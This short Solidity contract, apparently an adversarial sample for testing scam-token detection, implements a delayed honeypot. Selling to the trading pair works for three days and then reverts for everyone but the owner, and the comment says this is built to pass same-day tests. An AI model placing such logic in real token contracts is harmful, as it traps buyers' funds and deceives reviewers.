// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AdvBase} from "./AdvBase.sol";

/// @notice Sells work for 3 days after deployment, then revert for everyone but the owner: every
/// test made today passes (fresh round trip, holders, later blocks); only a later clock shows it.
contract TimeBombSell is AdvBase {
    uint256 internal immutable _armedAt;

    constructor(string memory n, string memory s) AdvBase(n, s) {
        _armedAt = block.timestamp + 3 days;
    }

    function _check(address from, address to, uint256) internal view override {
        if (to == pair && from != owner && block.timestamp >= _armedAt) revert("trading closed");
    }
}
